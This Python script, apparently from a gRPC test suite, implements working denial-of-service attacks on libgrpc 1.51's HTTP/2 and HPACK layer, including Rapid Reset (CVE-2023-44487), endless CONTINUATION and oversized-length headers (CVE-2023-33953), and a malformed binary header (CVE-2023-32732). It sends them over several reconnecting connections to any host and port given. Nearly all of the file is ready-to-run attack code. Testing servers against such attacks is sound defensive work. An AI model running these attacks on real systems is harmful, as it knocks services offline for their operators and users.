"""Attacks on the transport of libgrpc 1.51: its HTTP/2 and HPACK parser, below all calls.

    python3 tests/edge/attacks.py rapid_reset 127.0.0.1 50051 --seconds 5

Sends for some seconds, anew where the other side hangs up, and prints what came of it as JSON. With --once a connection
that was cut off is not made again. Python's own library is all that it needs.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import pathlib
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "integration"))
from hostile_test import ATTACKER, DATA, DECOMPOSE, HEADERS, RST, SETTINGS, frame, header_block, varint  # noqa: E402

CONTINUATION = 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
FRAME = 16384


def endless_string(at: int) -> tuple[bytes, bytes]:
    """CVE-2023-33953: a header value that announces a gigabyte, and comes."""
    value = b"\0" + bytes((1,)) + b"a" + b"\x7f" + varint((1 << 30) - 127)
    return (frame(HEADERS, 0, at, header_block(DECOMPOSE, None) + value), frame(CONTINUATION, 0, at, b"a" * FRAME) * 16)


def endless_number(at: int) -> tuple[bytes, bytes]:
    """CVE-2023-33953: the length of a header value, whose bytes of zero bits never end."""
    value = b"\0" + bytes((1,)) + b"a" + b"\x7f"
    return (frame(HEADERS, 0, at, header_block(DECOMPOSE, None) + value), frame(CONTINUATION, 0, at, b"\x80" * FRAME) * 16)


def many_headers(at: int) -> tuple[bytes, bytes]:
    """A header block of small headers in small frames, without end."""
    one = b"\0" + bytes((1,)) + b"a" + bytes((1,)) + b"b"
    return (frame(HEADERS, 0, at, header_block(DECOMPOSE, None)), frame(CONTINUATION, 0, at, one) * 4096)


def rapid_reset(at: int) -> tuple[bytes, bytes]:
    """CVE-2023-44487: streams that are reset as soon as they begin."""
    block = header_block(DECOMPOSE, None)
    cancel = struct.pack(">I", 8)
    return b"", b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST, 0, s, cancel) for s in range(at, at + 2000, 2))


def bad_bin_header(at: int) -> tuple[bytes, bytes]:
    """CVE-2023-32732: a header of bytes that is no base64."""
    name, value = b"x-trace-bin", b"!!!!"
    block = header_block(DECOMPOSE, None) + b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value
    return b"", frame(HEADERS, END_HEADERS, at, block) + frame(DATA, END_STREAM, at, b"\0\0\0\0\0")


ATTACKS = {a.__name__: a for a in (endless_string, endless_number, many_headers, rapid_reset, bad_bin_header)}
STREAMS_OF = {"rapid_reset": 1000, "bad_bin_header": 1}  # which one part of the attack uses; other attacks stay in one


class Attacker:
    """One connection of the attacker, and the next one when it is cut off."""

    def __init__(self, name: str, address: tuple[str, int]):
        self.name, self.address = name, address
        self.cut_off: list[float] = []  # seconds that connections lived
        self.bytes = self.parts = 0
        self.out = b""
        self.connect()

    def connect(self) -> None:
        self.socket = socket.create_connection(self.address, timeout=5, source_address=(ATTACKER, 0))
        self.socket.setblocking(False)
        self.born, self.next = time.monotonic(), 1
        first, self.part = ATTACKS[self.name](1)
        self.out = PREFACE + first

    def send(self) -> bool:
        """Some more; whether the connection still stands."""
        if not self.out:
            if self.name in STREAMS_OF:
                self.part = ATTACKS[self.name](self.next)[1]
                self.next += 2 * STREAMS_OF[self.name]
            self.out = self.part
            self.parts += 1
        try:
            sent = self.socket.send(self.out)
            self.out, self.bytes = self.out[sent:], self.bytes + sent
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            return False
        with contextlib.suppress(BlockingIOError):
            try:
                return self.socket.recv(1 << 16) != b""
            except (ConnectionError, TimeoutError):
                return False
        return True


def attack(name: str, address: tuple[str, int], seconds: float, connections: int, once: bool) -> dict:
    end = time.monotonic() + seconds
    attackers = [Attacker(name, address) for _ in range(connections)]
    everyone = list(attackers)
    refused = 0
    while time.monotonic() < end and attackers:
        for a in list(attackers):
            if a.send():
                continue
            a.cut_off.append(round(time.monotonic() - a.born, 3))
            a.socket.close()
            if once:
                attackers.remove(a)
                continue
            try:
                a.connect()
            except OSError:
                refused += 1
                time.sleep(0.05)
        if name == "bad_bin_header":
            time.sleep(0.002)
    for a in attackers:
        a.socket.close()
    return {"attack": name, "bytes": sum(a.bytes for a in everyone), "parts": sum(a.parts for a in everyone),
            "cut_off": [s for a in everyone for s in a.cut_off], "left": len(attackers), "refused": refused}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--connections", type=int, default=3)
    parser.add_argument("--once", action="store_true", help="a connection that was cut off is not made again")
    a = parser.parse_args()
    print(json.dumps(attack(a.attack, (a.host, a.port), a.seconds, a.connections, a.once)))


if __name__ == "__main__":
    main()
